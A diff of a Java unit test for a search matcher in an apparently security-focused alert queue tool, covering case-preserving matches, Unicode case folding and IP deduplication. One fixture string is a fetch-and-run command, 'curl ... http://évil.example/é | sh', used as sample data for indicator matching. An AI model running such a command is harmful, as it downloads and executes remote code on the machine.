@@ -1,6 +1,7 @@
 package io.watchfloor.queue;
 
 import java.text.Normalizer;
+import java.util.ArrayList;
 import java.util.Collection;
 import java.util.List;
 import java.util.Locale;
@@ -136,10 +137,49 @@ class SearchTextTests {
 		SearchText text = SearchText.of(Map.of(SearchField.NAME, List.of("Überfall"), SearchField.COMMAND_LINE,
 				List.of("curl -fsSL  http://évil.example/é | sh")));
 		assertThat(new SearchMatcher(SearchTerm.of("hxxp://évil[.]EXAMPLE")).find(text))
-			.isEqualTo(new SearchMatch(SearchField.COMMAND_LINE, "curl -fssl ", "http://évil.example", "/é | sh"));
+			.isEqualTo(new SearchMatch(SearchField.COMMAND_LINE, "curl -fsSL ", "http://évil.example", "/é | sh"));
 		assertThat(new SearchMatcher(SearchTerm.of("über")).find(text))
-			.isEqualTo(new SearchMatch(SearchField.NAME, "", "über", "fall"));
+			.isEqualTo(new SearchMatch(SearchField.NAME, "", "Über", "fall"));
 		assertThat(new SearchMatcher(SearchTerm.of("wget")).find(text)).isNull();
+	}
+
+	@Test
+	void aMatchIsShownAsItCame() {
+		Seeds.tryOut(300, (seed) -> {
+			Random random = new Random(seed);
+			String text = inSomeCapitals(new RandomTexts(random).text(900), random);
+			SearchText searched = text(List.of("First", text, "LAST"));
+			SearchMatch match = new SearchMatcher(SearchTerm.of(text.substring(0, text.offsetByCodePoints(0, 1))))
+				.find(text(List.of(text)));
+			assertThat(match).isNotNull()
+				.extracting((found) -> found.before() + found.match() + found.after())
+				.isEqualTo(text);
+			assertThat(new SearchMatcher(new SearchTerm(null, "last", false)).find(searched)).isNotNull();
+		});
+		String far = "x".repeat(300) + "ÄÖ" + "y".repeat(600) + "Z\uD83D\uDE00";
+		assertThat(new SearchMatcher(SearchTerm.of("äö")).find(text(List.of("A", far))))
+			.isEqualTo(new SearchMatch(SearchField.NAME, "x".repeat(300), "ÄÖ", far.substring(302)));
+		assertThat(new SearchMatcher(SearchTerm.of("curl")).find(text(List.of("CURL \u0130"))))
+			.as("a letter that grows")
+			.isEqualTo(new SearchMatch(SearchField.NAME, "", "curl", " i\u0307"));
+	}
+
+	private static String inSomeCapitals(String text, Random random) {
+		return text.codePoints()
+			.map((letter) -> random.nextInt(5) == 0 ? Character.toUpperCase(letter) : letter)
+			.collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
+			.toString();
+	}
+
+	@Test
+	void anAddressIsLeftOutOnlyWhereItIsRepeated() {
+		SearchText text = SearchText
+			.of(Map.of(SearchField.IP, List.of("10.0.0.12", "10.0.0.1", "2001:DB8::1", "2001:db8::1"),
+					SearchField.DEVICE, List.of("pc.contoso.com", "pc")));
+		assertThat(text).hasToString("pc.contoso.com\n10.0.0.12\n10.0.0.1\n2001:db8::1\n");
+		List<String> lines = new ArrayList<>();
+		text.forEachLine((field, line) -> lines.add(field + " " + line));
+		assertThat(lines).containsExactly("DEVICE pc.contoso.com", "IP 10.0.0.12", "IP 10.0.0.1", "IP 2001:db8::1");
 	}
 
 	@Test
